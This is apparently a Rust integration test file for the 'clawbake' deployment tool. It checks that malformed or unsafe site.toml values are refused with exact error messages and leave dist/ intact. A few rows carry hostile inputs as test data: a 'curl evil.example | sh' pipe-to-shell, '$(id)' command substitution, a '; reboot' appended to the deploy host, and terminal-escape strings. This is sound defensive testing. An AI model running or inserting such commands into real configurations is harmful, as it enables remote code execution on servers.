//! The binary, run on bad input: one test per class of mistake, each
//! asserting the exact message and exit code, and that `dist/` is left as
//! it was.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const BAD_INPUT: i32 = 3;

/// A valid site; each test breaks it one way.
const SITE: &str = r#"[site]
domain = "x.example.com"

[ssh]
authorized_keys = ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIL457cmlFdEw20vdsCn2uQjzu7M60nY1L275JJONFUyD a@b"]

[firewall]
admin_cidrs = ["203.0.113.7"]
"#;

struct Run {
    dir: tempfile::TempDir,
}

impl Run {
    fn new(site: &str) -> Run {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("s")).unwrap();
        std::fs::write(dir.path().join("s/site.toml"), site).unwrap();
        Run { dir }
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    fn clawbake(&self, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_clawbake"))
            .args(args)
            .current_dir(self.dir.path())
            .env("NO_COLOR", "1")
            .output()
            .unwrap()
    }

    fn build(&self) -> Output {
        self.clawbake(&["build", "s/site.toml"])
    }
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// Build `site`, expect bad input with exactly `expected` on stderr, and
/// check an existing dist/ survived untouched.
fn refused(site: &str, expected: &str) {
    let run = Run::new(site);
    let dist = run.path("dist");
    std::fs::create_dir(&dist).unwrap();
    std::fs::write(dist.join("manifest.json"), "{\"previous\": true}\n").unwrap();
    let out = run.build();
    assert_eq!(stderr(&out), expected);
    assert_eq!(out.status.code(), Some(BAD_INPUT));
    assert!(out.stdout.is_empty());
    assert_eq!(
        std::fs::read_to_string(dist.join("manifest.json")).unwrap(),
        "{\"previous\": true}\n"
    );
    assert_eq!(
        std::fs::read_dir(&dist).unwrap().count(),
        1,
        "dist/ gained files"
    );
    assert_no_staging_left(run.dir.path());
}

fn assert_no_staging_left(dir: &Path) {
    let left: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".clawbake"))
        .collect();
    assert!(left.is_empty(), "staging directories left behind: {left:?}");
}

#[test]
fn bad_toml() {
    refused(
        &format!("{SITE}\n[host\nswap_mib = 1\n"),
        "error: could not parse `s/site.toml` as TOML
  --> s/site.toml:10:6
   |
10 | [host
   |      ^ unclosed table, expected `]`
",
    );
}

#[test]
fn unknown_key_suggests_the_right_one() {
    refused(
        &format!("{SITE}\n[stack.services.gateway]\nmemry_mib = 3000\n"),
        "error: unknown key `stack.services.gateway.memry_mib`
  --> s/site.toml:11:1
   |
11 | memry_mib = 3000
   | ^^^^^^^^^ not a key in `[stack.services.gateway]`
   |
   = help: did you mean `memory_mib`?
",
    );
}

#[test]
fn unknown_table_suggests_the_right_one() {
    refused(
        &format!("{SITE}\n[firewal]\nssh_port = 22\n"),
        "error: unknown key `firewal`
  --> s/site.toml:10:2
   |
10 | [firewal]
   |  ^^^^^^^ not a key at the top level
   |
   = help: did you mean `firewall`?
",
    );
}

#[test]
fn wrong_type() {
    refused(
        &format!("{SITE}\n[host]\nswap_mib = \"4G\"\n"),
        "error: invalid value for `host.swap_mib`
  --> s/site.toml:11:12
   |
11 | swap_mib = \"4G\"
   |            ^^^^ expected a whole number, 0 or more, found the string \"4G\"
   |
   = help: `clawbake explain host.swap_mib` shows the value the layers give it and where
   = note: set by layers/base.toml -> s/site.toml
",
    );
}

#[test]
fn bad_cidr_points_at_the_element() {
    refused(
        &SITE.replace("\"203.0.113.7\"", "\"203.0.113.9\", \"198.51.100.7/24\""),
        "error: invalid value for `firewall.admin_cidrs[1]`
 --> s/site.toml:8:31
  |
8 | admin_cidrs = [\"203.0.113.9\", \"198.51.100.7/24\"]
  |                               ^^^^^^^^^^^^^^^^^ `198.51.100.7/24` has host bits set: write `198.51.100.0/24` for the range, or `198.51.100.7` for the one address
",
    );
}

#[test]
fn not_a_cidr() {
    refused(
        &SITE.replace("\"203.0.113.7\"", "\"203.0.113.300\""),
        "error: invalid value for `firewall.admin_cidrs[0]`
 --> s/site.toml:8:16
  |
8 | admin_cidrs = [\"203.0.113.300\"]
  |                ^^^^^^^^^^^^^^^ expected an IP address or range like `203.0.113.7` or `203.0.113.0/24`, found `203.0.113.300`
  |
  = help: write the address you administer from, e.g. `admin_cidrs = [\"203.0.113.7\"]`
",
    );
}

#[test]
fn ssh_open_to_the_world() {
    refused(
        &SITE.replace("\"203.0.113.7\"", "\"0.0.0.0/0\""),
        "error: SSH would be open to the whole internet
 --> s/site.toml:8:16
  |
8 | admin_cidrs = [\"0.0.0.0/0\"]
  |                ^^^^^^^^^^^ `0.0.0.0/0` matches every address
  |
  = help: list the addresses you administer from; a VPN's exit address works too
",
    );
}

#[test]
fn port_clash_names_both_sides() {
    refused(
        &SITE.replace("[firewall]\n", "[firewall]\nssh_port = 443\n"),
        "error: port 443 is used twice
 --> s/site.toml:8:12
  |
8 | ssh_port = 443
  |            ^^^ SSH listens on 443
  |
 --> layers/ingress-caddy.toml:6:16
  |
6 | public_ports = [80, 443]
  |                --------- the ingress publishes 443 too
  = help: pick another port for SSH, such as `ssh_port = 9922`
",
    );
}

#[test]
fn over_committed_memory() {
    refused(
        &format!("{SITE}\n[stack.services.gateway]\nmemory_mib = 6000\n"),
        "error: the stack needs 10224 MiB but the starter tier's server has 8192 MiB
  --> s/site.toml:11:14
   |
11 | memory_mib = 6000
   |              ^^^^ 6000 MiB for openclaw gateway
   |
   = help: lower a `memory_mib`, `stack.max_sandboxes` or `stack.sandbox.memory_mib`, or choose a larger `site.tier`
   = note: memory budget:
             openclaw gateway                     6000 MiB
             litellm                              1024 MiB
             socket proxy                          128 MiB
             squid egress                          128 MiB
             caddy                                 128 MiB
             sandboxes (3 x 512 MiB)              1536 MiB
             os, sshd and dockerd reserve         1280 MiB
             total                               10224 MiB
             server memory                        8192 MiB (over by 2032 MiB)
",
    );
}

#[test]
fn missing_required_value() {
    refused(
        &SITE.replace("domain = \"x.example.com\"\n", ""),
        "error: missing required value `site.domain`
  = help: add `domain = \"openclaw.example.com\"` under `[site]` in `s/site.toml`
  = note: no layer sets it, and it has no default
",
    );
}

#[test]
fn unknown_tier_suggests_one() {
    refused(
        &SITE.replace("[site]\n", "[site]\ntier = \"grwoth\"\n"),
        "error: invalid value for `site.tier`
 --> s/site.toml:2:8
  |
2 | tier = \"grwoth\"
  |        ^^^^^^^^ expected `starter`, `growth` or `production`
  |
  = help: did you mean `\"growth\"`?
",
    );
}

/// An OpenClaw release clawbake has no layer for: the ones it has.
#[test]
fn unknown_openclaw_version_lists_the_supported_ones() {
    refused(
        &format!("{SITE}\n[openclaw]\nversion = \"2026.10.1\"\n"),
        "error: invalid value for `openclaw.version`
  --> s/site.toml:11:11
   |
11 | version = \"2026.10.1\"
   |           ^^^^^^^^^^^ expected `2026.2.15` or `2026.9.6`
   |
   = help: did you mean `\"2026.9.6\"`?
",
    );
}

/// 2026.9.6 has Voyage only as a plugin clawbake cannot install.
#[test]
fn voyage_is_refused_where_openclaw_lacks_it() {
    refused(
        &format!("{SITE}\n[openclaw]\nversion = \"2026.9.6\"\n\n[memory]\nprovider = \"voyage\"\n"),
        "error: OpenClaw 2026.9.6 has no Voyage embeddings of its own
  --> s/site.toml:14:12
   |
14 | provider = \"voyage\"
   |            ^^^^^^^^ Voyage is the plugin `@openclaw/voyage-provider` there, which is not on npm
   |
   = help: set `provider = \"none\"` here, or keep `openclaw.version = \"2026.2.15\"`, whose gateway has Voyage built in
",
    );
}

#[test]
fn no_ssh_key() {
    refused(
        &SITE.replace("authorized_keys = [\"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIL457cmlFdEw20vdsCn2uQjzu7M60nY1L275JJONFUyD a@b\"]", "authorized_keys = []"),
        "error: no SSH key: nobody could log in to the server
 --> s/site.toml:5:19
  |
5 | authorized_keys = []
  |                   ^^ this list is empty
  |
  = help: add your public key: `authorized_keys = [\"ssh-ed25519 AAAA... you@laptop\"]` under `[ssh]`
",
    );
}

#[test]
fn secret_in_site_is_refused_and_never_printed() {
    let secret = "sk-ant-api03-DO-NOT-PRINT-0123456789";
    let run = Run::new(&format!(
        "{SITE}\n[providers.anthropic]\napi_key = \"{secret}\"\n"
    ));
    let out = run.build();
    assert_eq!(out.status.code(), Some(BAD_INPUT));
    let err = stderr(&out);
    assert!(
        !err.contains("DO-NOT-PRINT"),
        "the secret was printed:\n{err}"
    );
    assert!(
        err.starts_with("error: `providers.anthropic.api_key` looks like a secret\n"),
        "{err}"
    );
    assert!(
        err.contains("clawbake secrets set --host HOST NAME"),
        "{err}"
    );
    assert!(!run.path("dist").exists());
}

#[test]
fn missing_site_file_says_how_to_make_one() {
    let run = Run::new(SITE);
    let out = run.clawbake(&["build", "nope/site.toml"]);
    assert_eq!(out.status.code(), Some(BAD_INPUT));
    assert_eq!(
        stderr(&out),
        "error: could not read site file `nope/site.toml`: No such file or directory (os error 2)
  = help: create one with `clawbake init mysite`, or run `clawbake build` with no argument for the example site
"
    );
}

#[test]
fn refuses_to_replace_a_directory_it_did_not_write() {
    let run = Run::new(SITE);
    std::fs::create_dir(run.path("dist")).unwrap();
    std::fs::write(run.path("dist/notes.txt"), "mine").unwrap();
    let out = run.build();
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(
        stderr(&out),
        "error: replacing `dist`: it exists and was not written by clawbake (no manifest.json); nothing was changed: choose another `--out`, or move it away\n"
    );
    assert_eq!(
        std::fs::read_to_string(run.path("dist/notes.txt")).unwrap(),
        "mine"
    );

    // Some other program's manifest.json (a browser extension's) is not ours.
    std::fs::write(run.path("dist/manifest.json"), "{\"manifest_version\": 3}").unwrap();
    let out = run.build();
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(
        stderr(&out),
        "error: replacing `dist`: its manifest.json is not one clawbake writes; nothing was changed: choose another `--out`, or move it away\n"
    );
}

#[test]
fn a_good_build_replaces_the_previous_dist() {
    let run = Run::new(SITE);
    assert!(run.build().status.success());
    std::fs::write(run.path("dist/stale"), "x").unwrap();
    let out = run.build();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        !run.path("dist/stale").exists(),
        "the old dist/ was not replaced"
    );
    assert!(run.path("dist/user-data").exists());
    assert_no_staging_left(run.dir.path());
}

#[test]
fn a_password_in_an_offsite_location_is_refused_unshown() {
    let site = format!(
        "{SITE}\n[backup.offsite.home]\nrepository = \"rest:https://me:hunter2@backup.example.net:8000/openclaw\"\n"
    );
    let run = Run::new(&site);
    let out = run.build();
    assert_eq!(out.status.code(), Some(BAD_INPUT));
    let said = stderr(&out);
    assert!(
        said.starts_with("error: `backup.offsite.home.repository` looks like a secret\n"),
        "{said}"
    );
    assert!(!said.contains("hunter2"), "{said}");
}

#[test]
fn an_sftp_offsite_is_refused_with_what_to_use() {
    refused(
        &format!("{SITE}\n[backup.offsite.nas]\nrepository = \"sftp:me@nas.example.net:/srv/restic\"\n"),
        "error: invalid offsite repository for `nas`
  --> s/site.toml:11:14
   |
11 | repository = \"sftp:me@nas.example.net:/srv/restic\"
   |              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ SFTP repositories are not supported
   |
   = help: run restic's REST server on that machine (`rest-server --append-only`) and use `rest:https://HOST:8000/REPO`
",
    );
}

#[test]
fn an_offsite_needs_a_name_its_secrets_can_carry_and_a_bucket() {
    refused(
        &format!("{SITE}\n[backup.offsite.B2]\nrepository = \"s3:https://s3.eu-central-003.backblazeb2.com/\"\n"),
        "error: invalid offsite name `B2`
  --> s/site.toml:11:14
   |
11 | repository = \"s3:https://s3.eu-central-003.backblazeb2.com/\"
   |              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ the secrets for its credentials are named after it
   |
   = help: use a short lower-case name like `[backup.offsite.b2]` (letters, digits, `-`, at most 24)

error: invalid offsite repository for `B2`
  --> s/site.toml:11:14
   |
11 | repository = \"s3:https://s3.eu-central-003.backblazeb2.com/\"
   |              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ expected `s3:https://ENDPOINT/BUCKET[/PATH]`
error: 2 problems in the site; nothing was written
",
    );
}

/// `authorized_keys` entries read as OpenSSH reads them: every key
/// `ssh-keygen` makes, and damaged copies of them (cut short, a byte
/// changed, bytes added, the label of another type), are accepted or
/// refused exactly as `ssh-keygen -l` accepts or refuses them.
#[test]
fn ssh_keys_are_read_as_openssh_reads_them() {
    let Some(keygen) = common::tool("ssh-keygen") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let mut lines = Vec::new();
    for (kind, bits) in [
        ("ed25519", ""),
        ("rsa", "2048"),
        ("rsa", "1024"),
        ("ecdsa", "256"),
        ("ecdsa", "384"),
        ("ecdsa", "521"),
    ] {
        let file = dir.path().join(format!("{kind}{bits}"));
        let mut cmd = Command::new(&keygen);
        cmd.args(["-q", "-N", "", "-C", "t@x", "-t", kind, "-f"])
            .arg(&file);
        if !bits.is_empty() {
            cmd.args(["-b", bits]);
        }
        assert!(cmd.status().unwrap().success());
        lines.push(
            std::fs::read_to_string(file.with_extension("pub"))
                .unwrap()
                .trim()
                .to_owned(),
        );
    }
    let mut cases = Vec::new();
    for line in &lines {
        let (label, rest) = line.split_once(' ').unwrap();
        let (body, comment) = rest.split_once(' ').unwrap();
        cases.push(line.clone());
        for cut in [4, 8, 12, 40] {
            cases.push(format!("{label} {} {comment}", &body[..body.len() - cut]));
        }
        let mut changed = body.as_bytes().to_vec();
        changed[20] = if changed[20] == b'A' { b'B' } else { b'A' };
        cases.push(format!(
            "{label} {} {comment}",
            String::from_utf8(changed).unwrap()
        ));
        cases.push(format!("{label} {body}AAAA {comment}"));
        for other in &lines {
            let other_label = other.split(' ').next().unwrap();
            if other_label != label {
                cases.push(format!("{other_label} {body} {comment}"));
            }
        }
    }
    let file = dir.path().join("case.pub");
    for case in &cases {
        std::fs::write(&file, format!("{case}\n")).unwrap();
        let openssh = Command::new(&keygen)
            .arg("-l")
            .arg("-f")
            .arg(&file)
            .output()
            .unwrap()
            .status
            .success();
        let ours = clawbake::model::SshKey::parse(case);
        assert_eq!(
            ours.is_ok(),
            openssh,
            "OpenSSH {} `{case}`, clawbake says {ours:?}",
            if openssh { "reads" } else { "refuses" }
        );
    }
    assert!(cases.len() > 60, "{} cases", cases.len());
}

/// One row per key and bad value: each refused (exit 3, `dist/` untouched)
/// with its own message, by the rule of the program that reads it.
#[test]
#[allow(clippy::too_many_lines)] // a table: one row per key and bad value
fn bad_values_are_refused_by_their_consumers_rules() {
    let key = "AAAAC3NzaC1lZDI1NTE5AAAAIL457cmlFdEw20vdsCn2uQjzu7M60nY1L275JJONFUyD";
    // An admin list in place of the site's (`ADMIN:` marks the row).
    let cidr = |c: &str| format!("ADMIN:admin_cidrs = [{c}]");
    let loopback = cidr("\"127.0.0.1\"");
    let link_local = cidr("\"169.254.10.0/24\"");
    let v6_link_local = cidr("\"fe80::1\"");
    let halves = cidr("\"0.0.0.0/1\", \"128.0.0.0/1\"");
    let rows: &[(&str, &str, &str)] = &[
        (
            &loopback,
            "",
            "a loopback address: no packet from there arrives",
        ),
        (&link_local, "", "a link-local address"),
        (&v6_link_local, "", "a link-local address"),
        (&halves, "", "together these ranges match every address"),
        (
            "[stack.sandbox]\npids = 0\n",
            "",
            "expected 16 to 65536 processes per sandbox (Docker takes 0 for no limit), found 0",
        ),
        (
            "[stack]\nhealthcheck_timeout_secs = 0\n",
            "",
            "Docker takes 0 for its 30 s default",
        ),
        (
            "[backup]\nkeep_days = 0\n",
            "",
            "restic keeps every one with 0",
        ),
        (
            "[openclaw]\nmax_tokens = 0\n",
            "",
            "expected 1 to 1000000 tokens per reply",
        ),
        // (what the site gets, replacing or appending, what the error says)
        (
            "[docker.daemon]\nlog_max_size = \"lots\"\n",
            "",
            "Docker reads a size above 0 like `10m`",
        ),
        (
            "[docker.daemon]\nlog_max_size = \"0\"\n",
            "",
            "Docker reads a size above 0",
        ),
        (
            "[docker.daemon]\nlog_max_files = 0\n",
            "",
            "Docker refuses fewer than 1 log file",
        ),
        (
            "[docker.daemon]\nnofile = 64\n",
            "",
            "expected 1024 to 1048576 open files",
        ),
        (
            "[backup]\nschedule = \"61 25 * * *\"\n",
            "",
            "minute `61` is outside 0 to 59",
        ),
        (
            "[backup]\nschedule = \"0 3 * * * root\"\n",
            "",
            "expected five cron fields",
        ),
        (
            "[backup]\nrotate_token_schedule = \"0 4 31 2 8\"\n",
            "",
            "weekday `8` is outside 0 to 7",
        ),
        (
            "",
            &key[..key.len() - 8],
            "the key's base64 part is damaged",
        ),
        (
            "",
            "AAAAB3NzaC1yc2EAAAADAQABAAAAgQ",
            "the key's base64 part is damaged",
        ),
        (
            "[memory]\napi_key_secret = \"PATH\"\n",
            "",
            "`PATH` is an environment variable programs rely on",
        ),
        (
            "[memory]\napi_key_secret = \"LD_PRELOAD\"\n",
            "",
            "`LD_PRELOAD` is an environment variable",
        ),
        (
            "[providers.anthropic]\napi_key_secret = \"BACKUP_KEY\"\n",
            "",
            "`BACKUP_KEY` is a name clawbake keeps",
        ),
        (
            "[providers.openai]\napi_key_secret = \"OFFSITE_B2_KEY\"\n",
            "",
            "`OFFSITE_B2_KEY` is a name clawbake keeps",
        ),
        // Strings a shell step or a line-based file takes as they are.
        (
            "[docker.apt]\nsuite = \"noble; curl evil.example | sh\"\n",
            "",
            "expected a suite name like `noble`",
        ),
        (
            "[docker.apt]\nkey_url = \"https://download.docker.com/gpg $(id)\"\n",
            "",
            "invalid value for `docker.apt.key_url`",
        ),
        (
            "[docker.apt]\nurl = \"http://download.docker.com/linux/ubuntu\"\n",
            "",
            "expected an https:// URL",
        ),
        (
            "[models.claude-sonnet-4-5]\nid = \"claude\\nsonnet\"\n",
            "",
            "expected a model id of letters, digits and `-._:/@`",
        ),
        (
            "[memory]\nmodel = \"voyage 3\"\n",
            "",
            "invalid value for `memory.model`",
        ),
        (
            "[deploy]\nhost = \"root@203.0.113.7; reboot\"\n",
            "",
            "expected a server as `root@203.0.113.7`",
        ),
        // Numbers by what their consumer does with 0, infinity, NaN.
        (
            "[models.claude-sonnet-4-5]\nrpm = 0\n",
            "",
            "LiteLLM routes nothing to a model with 0",
        ),
        (
            "[models.claude-sonnet-4-5]\nbudget_usd = inf\n",
            "",
            "expected 0 (no cap) or a finite amount above it",
        ),
        (
            "[models.claude-sonnet-4-5]\nbudget_usd = nan\n",
            "",
            "expected 0 (no cap) or a finite amount above it",
        ),
        (
            "[egress]\ncache_mem_mib = 4096\n",
            "",
            "expected at most half the egress container's",
        ),
        (
            "[stack.services.litellm]\ncpus = nan\n",
            "",
            "expected more than 0 and at most the tier's 4 vCPUs, found `NaN`",
        ),
        (
            "[stack.sandbox]\nmemory_mib = 0\n",
            "",
            "MiB per sandbox (Docker takes 0 for no limit), found 0",
        ),
        (
            "[host]\nswap_mib = 1000000\n",
            "",
            "expected 0 to 65536 MiB of swap file",
        ),
        (
            "[stack.sandbox]\ncpus = inf\n",
            "",
            "invalid value for `stack.sandbox.cpus`",
        ),
    ];
    for (append, new_key, says) in rows {
        let mut site = SITE.to_owned();
        if !new_key.is_empty() {
            site = site.replace(key, new_key);
        }
        if let Some(admin) = append.strip_prefix("ADMIN:") {
            site = site.replace("admin_cidrs = [\"203.0.113.7\"]", admin);
        } else {
            site.push('\n');
            site.push_str(append);
        }
        let run = Run::new(&site);
        let dist = run.path("dist");
        std::fs::create_dir(&dist).unwrap();
        let out = run.build();
        let err = stderr(&out);
        assert_eq!(
            out.status.code(),
            Some(BAD_INPUT),
            "{append}{new_key}: {err}"
        );
        assert!(
            err.contains(says),
            "{append}{new_key}: want `{says}` in:\n{err}"
        );
        assert!(err.contains(" --> s/site.toml:"), "{err}");
        assert!(
            err.contains("  = help: "),
            "{append}{new_key}: no help in:\n{err}"
        );
        assert_eq!(std::fs::read_dir(&dist).unwrap().count(), 0);
    }
}

/// The site file and every include: a regular file of at most 1 MiB, each
/// once, and includes one level deep.
#[test]
fn only_regular_bounded_files_are_read_and_includes_do_not_nest() {
    let run = Run::new(SITE);
    // A FIFO would block an open() forever, /dev/zero would fill memory.
    let fifo = run.path("s/fifo.toml");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    for path in [fifo.to_str().unwrap(), "/dev/zero"] {
        let out = run.clawbake(&["build", path]);
        assert_eq!(out.status.code(), Some(BAD_INPUT));
        assert_eq!(
            stderr(&out),
            format!(
                "error: could not read site file `{path}`: it is not a regular file\n  = help: give the path of a TOML file\n"
            )
        );
    }
    std::fs::write(run.path("s/big.toml"), "#".repeat(2 * 1024 * 1024)).unwrap();
    let out = run.clawbake(&["build", "s/big.toml"]);
    assert_eq!(out.status.code(), Some(BAD_INPUT));
    assert_eq!(
        stderr(&out),
        "error: could not read site file `s/big.toml`: it is larger than 1024 KiB, which no site is\n"
    );

    let with_include =
        |list: &str| SITE.replace("[site]\n", &format!("[site]\ninclude = [{list}]\n"));
    std::fs::write(run.path("s/site.toml"), with_include("\"site.toml\"")).unwrap();
    let out = run.build();
    assert_eq!(out.status.code(), Some(BAD_INPUT));
    assert_eq!(
        stderr(&out),
        "error: `site.toml` is included twice
 --> s/site.toml:2:12
  |
2 | include = [\"site.toml\"]
  |            ^^^^^^^^^^^ the site file, or a layer already listed
  |
  = help: list each layer once, and never the site file itself
"
    );
    std::fs::write(run.path("s/a.toml"), "[site]\ninclude = [\"b.toml\"]\n").unwrap();
    std::fs::write(run.path("s/site.toml"), with_include("\"a.toml\"")).unwrap();
    let out = run.build();
    assert_eq!(out.status.code(), Some(BAD_INPUT));
    assert_eq!(
        stderr(&out),
        "error: `a.toml` has an `include` of its own
 --> s/a.toml:2:11
  |
2 | include = [\"b.toml\"]
  |           ^^^^^^^^^^ includes do not nest
  |
  = help: list every layer in the site file's `include`, in the order they apply
"
    );
    std::fs::write(run.path("s/a.toml"), "[egress]\ncache_mem_mib = 64\n").unwrap();
    std::fs::write(
        run.path("s/site.toml"),
        with_include("\"a.toml\", \"./a.toml\""),
    )
    .unwrap();
    let out = run.build();
    assert_eq!(out.status.code(), Some(BAD_INPUT));
    assert!(
        stderr(&out).starts_with("error: `./a.toml` is included twice\n"),
        "{}",
        stderr(&out)
    );
    assert_no_staging_left(run.dir.path());
}

/// Messages that say what is wrong: a float is shown as one, a number
/// past any setting as a number, and every bad port in the same words.
#[test]
fn wrong_numbers_are_named_as_written() {
    for (value, found) in [
        ("22.0", "`22.0`"),
        ("-1", "`-1`"),
        ("0", "`0`"),
        ("65536", "`65536`"),
        ("inf", "`inf`"),
        ("\"22\"", "the string \"22\""),
        (
            "99999999999999999999",
            "`99999999999999999999`, a number too large for any setting",
        ),
    ] {
        let run = Run::new(&SITE.replace(
            "admin_cidrs = [\"203.0.113.7\"]",
            &format!("admin_cidrs = [\"203.0.113.7\"]\nssh_port = {value}"),
        ));
        let out = run.build();
        assert_eq!(out.status.code(), Some(BAD_INPUT));
        let err = stderr(&out);
        assert!(
            err.contains(&format!("expected a port from 1 to 65535, found {found}\n")),
            "{value}: {err}"
        );
    }
}

/// A value or a broken line is shown escaped: no byte of it can clear the
/// screen or print a line that looks like ours; and a syntax error on a
/// line holding a key does not show the key.
#[test]
fn errors_never_echo_control_characters_or_a_key() {
    let run = Run::new(&SITE.replace(
        "[site]\n",
        "[site]\nname = \"a\\u001b[2J\\rbuilt ok\\u202e\"\n",
    ));
    let out = run.build();
    assert_eq!(out.status.code(), Some(BAD_INPUT));
    let err = stderr(&out);
    assert!(!err.contains(['\u{1b}', '\r', '\u{202e}']), "{err:?}");
    assert!(
        err.contains("found `a\\u{1b}[2J\\u{d}built ok\\u{202e}`"),
        "{err}"
    );

    let run = Run::new(&SITE.replace("[site]\n", "[site]\ndomain2 = \"x\u{1b}[2J\"\n"));
    let out = run.build();
    assert_eq!(out.status.code(), Some(BAD_INPUT));
    assert!(!stderr(&out).contains('\u{1b}'), "{:?}", stderr(&out));

    let key = "sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789";
    let run = Run::new(&format!(
        "{SITE}\n[providers.anthropic]\napi_key = \"{key}\n"
    ));
    let out = run.build();
    assert_eq!(out.status.code(), Some(BAD_INPUT));
    let err = stderr(&out);
    assert!(
        err.starts_with("error: could not parse `s/site.toml` as TOML\n"),
        "{err}"
    );
    assert!(
        !err.contains("sk-ant") && !err.contains("abcdefghij"),
        "{err}"
    );
}

/// The init template's own domain builds, with a warning that says so; a
/// real name builds without one.
#[test]
fn a_reserved_domain_builds_with_a_warning() {
    let run = Run::new(&SITE.replace("x.example.com", "openclaw.example.com"));
    let out = run.build();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).starts_with(
            "warning: `site.domain` is `openclaw.example.com`, a name reserved for documentation and tests"
        ),
        "{}",
        stderr(&out)
    );
    let run = Run::new(&SITE.replace("x.example.com", "agent.openclaw-host.net"));
    let out = run.build();
    assert!(out.status.success());
    assert!(!stderr(&out).contains("site.domain"), "{}", stderr(&out));
}
